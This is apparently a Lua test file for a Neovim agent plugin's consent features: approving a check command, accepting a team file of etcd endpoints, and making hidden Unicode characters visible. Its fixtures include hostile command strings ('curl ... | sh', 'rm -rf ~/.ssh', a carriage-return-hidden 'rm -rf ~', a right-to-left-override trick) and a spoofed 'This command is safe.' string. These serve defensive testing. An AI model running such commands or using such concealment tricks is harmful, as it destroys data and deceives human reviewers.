-- Consent in the sidebar and the commands, without a server: a check waiting for this
-- machine's person's approval and a team file waiting for acceptance (docs/runtime.md
-- §2.10, docs/team.md). The commands run against a connection record whose execute is
-- recorded, and vim.fn.confirm is answered by the test.
local render = require("agentd.render")
local client = require("agentd.client")
local store = require("agentd.store")
local protocol = require("agentd.protocol")
local agentd = require("agentd")

local ALICE = { user = "alice", host = "alice-laptop" }
local LONG = "curl -s https://example.com/install.sh | sh && go test ./... -run 'TestParser|TestLexer|TestPrinter' -count=1\nrm -rf ~/.ssh"
local TEAM = {
  status = "pending",
  path = ".agentd/team.json",
  id = "6f1c2d3e-0000-4000-8000-000000000001",
  endpoints = { "https://etcd-1.example.com:2379", "http://10.0.0.9:2379" },
  sha256 = "ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12",
  accept = "agentd team accept --sha256 ab12cd34",
}

local function state(over)
  return vim.tbl_deep_extend("force", {
    workspace = "file:///w", session = "default", revision = 7,
    todos = { revision = 5, items = {} },
    queue = { items = {}, autoAdvance = true },
    goal = {
      objective = "Ship the parser", status = "active", turnsUsed = 3, tokensUsed = 1234, wallClockMs = 1000,
      budget = {},
    },
  }, over or {})
end

local function sidebar_text(st, opts)
  local res = render.sidebar(st, vim.tbl_extend("force", { root = "/home/u/proj", help_line = false }, opts or {}))
  return table.concat(res.lines, "\n"), res
end

test("visible: characters that hide or reorder text are written <U+XXXX>; newline, tab and text stay", function()
  H.eq("echo ok<U+202E> hs.lave", render.visible("echo ok\226\128\174 hs.lave"))
  H.eq("make test<U+000D>rm -rf ~", render.visible("make test\rrm -rf ~"))
  H.eq("<U+001B>[2Kecho hi<U+200B>", render.visible("\27[2Kecho hi\226\128\139"))
  H.eq("a<U+2028>b<U+FEFF><U+0085><U+0000>", render.visible("a\226\128\168b\239\187\191\194\133\0"))
  H.eq("go test ./...\n\tmake lint — café 日本", render.visible("go test ./...\n\tmake lint — café 日本"))
end)

test("set_by: who set a check on one line; unknown for an older record", function()
  H.eq("alice on alice-laptop", render.set_by(ALICE))
  H.eq("someone unknown (an older record)", render.set_by(nil))
  H.eq("someone unknown (an older record)", render.set_by(vim.NIL))
  H.eq("bob  This command is safe. on h<U+202E>", render.set_by({ user = "bob\n\nThis command is safe.", host = "h\226\128\174" }))
  H.eq("? on ?", render.set_by({ user = "", host = "" }))
end)

test("check_waits: only an explicit approved = false (an agentd before approvals sends none)", function()
  H.eq(true, render.check_waits({ command = "make", approved = false }))
  H.eq(false, render.check_waits({ command = "make", approved = true }))
  H.eq(false, render.check_waits({ command = "make" }))
  H.eq(false, render.check_waits(nil))
end)

test("sidebar: a check waiting for approval shows every line of the command in full, who set it, and how to approve", function()
  local text, res = sidebar_text(state({ goal = { check = { command = LONG, approved = false, setBy = ALICE } } }), { activate_key = "<CR>" })
  H.contains(text, table.concat({
    "  check waiting for your approval",
    "        $ curl -s https://example.com/install.sh | sh && go test ./... -run 'TestParser|TestLexer|TestPrinter' -count=1",
    "          rm -rf ~/.ssh",
    "        set by alice on alice-laptop",
    "        approve: :AgentdApproveCheck (or <CR> here)",
  }, "\n"))
  H.not_contains(text, "not run yet", "an unapproved check has no run state")
  H.eq(nil, res.check_line, "<CR> does not run a check that waits")
  local n = 0
  for lnum in pairs(res.approve_lines) do
    n = n + 1
    H.ok(res.lines[lnum], "approve line " .. lnum .. " exists")
  end
  H.eq(5, n, "every line of the block approves on <CR>")
  local warned
  for _, h in ipairs(res.highlights) do
    if h[4] == "AgentdWarn" and res.lines[h[1] + 1]:sub(h[2] + 1, h[3]) == "waiting for your approval" then
      warned = true
    end
  end
  H.ok(warned, "waiting for your approval is highlighted AgentdWarn")
  text = sidebar_text(state({ goal = { check = { command = "true\226\128\174curl x|sh", approved = false } } }))
  H.contains(text, "        $ true<U+202E>curl x|sh\n        set by someone unknown (an older record)\n        approve: :AgentdApproveCheck\n")
end)

test("sidebar: an approved check says who set it and that it is approved, after its result", function()
  local text, res = sidebar_text(state({ goal = { check = { command = "go test ./...", approved = true, setBy = ALICE } } }))
  H.contains(text, "  check go test ./...\n        not run yet\n        set by alice on alice-laptop · approved\n")
  H.eq("  check go test ./...", res.lines[res.check_line])
  text = sidebar_text(state({ goal = { check = { command = "make" } } }))
  H.contains(text, "  check make\n        not run yet\n\n", "no such line from an agentd before approvals")
end)

test("sidebar: a pending team file is shown under the header with every endpoint", function()
  local _, res = sidebar_text(state({ teamFile = TEAM }), { activate_key = "<CR>" })
  H.eq(table.concat({
    "agentd  proj  [default]",
    "team file not accepted: .agentd/team.json",
    "  etcd https://etcd-1.example.com:2379",
    "  etcd http://10.0.0.9:2379",
    "  local state only until :AgentdTeamAccept (or <CR> here)",
    "",
    "Goal  active",
  }, "\n"), table.concat(vim.list_slice(res.lines, 1, 7), "\n"))
  H.eq({ [2] = true, [3] = true, [4] = true, [5] = true }, res.team_lines)
  H.not_contains(sidebar_text(state()), "team file")
end)

test("statusline marks a goal whose check waits for approval", function()
  H.eq("goal active approve-check 3 turns 1.2k tok", render.statusline(state({ goal = { check = { command = "make", approved = false } } })))
  H.eq("goal active 3 turns 1.2k tok", render.statusline(state({ goal = { check = { command = "make", approved = true } } })))
end)

test("prompts: the approval shows the command and who set it; the acceptance every endpoint and where credentials go", function()
  local q = render.approve_check_prompt({ command = LONG, approved = false, setBy = ALICE })
  H.contains(q, "\n\n" .. LONG .. "\n\n")
  H.contains(q, "on this machine, as you")
  H.contains(q, "Set by alice on alice-laptop.")
  q = render.team_accept_prompt(TEAM)
  H.contains(q, "Accept this folder's team file (.agentd/team.json)?")
  H.contains(q, "\n\n  https://etcd-1.example.com:2379\n  http://10.0.0.9:2379\n\n")
  H.contains(q, "The etcd credentials configured on this machine will be sent to these endpoints.")
  H.contains(q, "file sha256 " .. TEAM.sha256 .. ".")
  q = render.team_accept_prompt(vim.tbl_extend("force", TEAM, { endpoints = { "https://ok\n  (all internal)" } }))
  H.contains(q, "\n  https://ok   (all internal)\n", "one line per endpoint")
end)

-- A connection record as the client keeps it, and client.ensure/execute stand-ins that
-- record what would be sent.
local function fake(st)
  local conn = {
    root = "/tmp/consent", status = "ready", store = store.new("default"), received_at = vim.uv.now(),
    waiting = {}, edits = {}, refresh_waiters = {}, restarts = 0,
  }
  store.set_state(conn.store, st)
  local sent = {}
  local saved = { ensure = client.ensure, execute = client.execute, confirm = vim.fn.confirm }
  client.ensure = function()
    return conn
  end
  client.execute = function(_, command, args, cb)
    table.insert(sent, { command = command, args = args })
    local reply = conn.reply and conn.reply(command, args)
    if reply and reply.err then
      cb(reply.err)
    else
      cb(nil, reply and reply.result or state())
    end
  end
  local function restore()
    client.ensure, client.execute, vim.fn.confirm = saved.ensure, saved.execute, saved.confirm
  end
  return conn, sent, restore
end

local function answer(choice)
  local asked = {}
  vim.fn.confirm = function(msg, choices)
    table.insert(asked, { msg = msg, choices = choices })
    return choice
  end
  return asked
end

test(":AgentdApproveCheck asks with the command in full and sends exactly that text; No sends nothing", function()
  local conn, sent, restore = fake(state({ goal = { check = { command = LONG, approved = false, setBy = ALICE } } }))
  local asked = answer(2)
  vim.cmd("AgentdApproveCheck")
  H.eq(0, #sent, "declined: nothing sent")
  H.contains(asked[1].msg, LONG)
  H.eq("&Approve\n&Cancel", asked[1].choices)
  H.ok(H.find_notification("the check was not approved"), H.notifications_text())
  answer(1)
  conn.reply = function()
    return { result = state({ revision = 8, goal = { check = { command = LONG, approved = true, setBy = ALICE } } }) }
  end
  vim.cmd("AgentdApproveCheck")
  H.eq({ { command = protocol.commands.goal_approve_check, args = { command = LONG } } }, sent)
  H.eq(true, conn.store.state.goal.check.approved, "the State it answers is shown")
  H.ok(H.find_notification("check approved"), H.notifications_text())
  H.clear_notifications()
  vim.cmd("AgentdApproveCheck")
  H.eq(1, #sent, "an approved check is not sent again")
  H.ok(H.find_notification("already approved"), H.notifications_text())
  restore()
end)

test(":AgentdApproveCheck shows a refusal with its hint (the command changed meanwhile, or an agent's shell)", function()
  local conn, _, restore = fake(state({ goal = { check = { command = "make", approved = false } } }))
  answer(1)
  conn.reply = function()
    return { err = { code = -32803, message = "the check command changed; approve the current one", data = { code = protocol.errors.caller_agent_shell } } }
  end
  vim.cmd("AgentdApproveCheck")
  local n = H.find_notification("the check command changed", vim.log.levels.ERROR)
  H.ok(n, H.notifications_text())
  H.contains(n.msg, "[caller.agent_shell]")
  H.contains(n.msg, "start Neovim from your own terminal")
  H.eq("the goal's check waits for your approval: :AgentdApproveCheck shows it", render.error_hints[protocol.errors.goal_check_unapproved])
  restore()
end)

test(":AgentdTeamAccept asks with every endpoint, sends the hash shown, and takes the team store's State whatever its revision", function()
  local conn, sent, restore = fake(state({ revision = 40, teamFile = TEAM }))
  local asked = answer(2)
  vim.cmd("AgentdTeamAccept")
  H.eq(0, #sent, "declined: nothing sent")
  H.contains(asked[1].msg, "  https://etcd-1.example.com:2379\n  http://10.0.0.9:2379\n")
  H.eq("&Accept\n&Cancel", asked[1].choices)
  answer(1)
  conn.reply = function(command)
    if command == protocol.commands.team_accept then
      return { result = { path = ".agentd/team.json", id = TEAM.id, sha256 = TEAM.sha256, endpoints = TEAM.endpoints, sendsTo = TEAM.endpoints, reopened = true } }
    end
    return { result = state({ revision = 4, goal = { objective = "The team's goal" } }) }
  end
  vim.cmd("AgentdTeamAccept")
  H.eq({ command = protocol.commands.team_accept, args = { sha256 = TEAM.sha256 } }, sent[1])
  H.eq(protocol.commands.state, sent[2] and sent[2].command, "then reads the state again")
  H.eq("The team's goal", conn.store.state.goal.objective)
  H.eq(nil, conn.store.state.teamFile)
  H.eq(4, conn.store.revision, "the team store's State, though its revision is lower")
  H.ok(H.find_notification("shared through etcd at https://etcd-1.example.com:2379"), H.notifications_text())
  H.clear_notifications()
  vim.cmd("AgentdTeamAccept")
  H.ok(H.find_notification("no team file waiting"), H.notifications_text())
  restore()
end)

test("<CR> on the sidebar's approval or team lines asks first", function()
  local conn, sent, restore = fake(state({ teamFile = TEAM, goal = { check = { command = "make", approved = false } } }))
  client.conns[conn.root] = conn
  local sidebar = require("agentd.sidebar")
  sidebar.open(conn)
  local asked = answer(2)
  local layout = sidebar.layout
  local team_line, approve_line = math.huge, math.huge
  for l in pairs(layout.team_lines) do
    team_line = math.min(team_line, l)
  end
  for l in pairs(layout.approve_lines) do
    approve_line = math.min(approve_line, l)
  end
  vim.api.nvim_win_set_cursor(0, { team_line, 0 })
  sidebar.actions.activate()
  vim.api.nvim_win_set_cursor(0, { approve_line, 0 })
  sidebar.actions.activate()
  H.eq(2, #asked)
  H.contains(asked[1].msg, "https://etcd-1.example.com:2379")
  H.contains(asked[2].msg, "\n\nmake\n\n")
  H.eq(0, #sent, "declined both")
  client.conns[conn.root] = nil
  restore()
end)

test("plugin/agentd.lua defines :AgentdApproveCheck and :AgentdTeamAccept", function()
  local cmds = vim.api.nvim_get_commands({})
  H.ok(cmds.AgentdApproveCheck, "AgentdApproveCheck")
  H.ok(cmds.AgentdTeamAccept, "AgentdTeamAccept")
  H.ok(agentd.goal_approve_check and agentd.team_accept, "the functions behind them")
end)
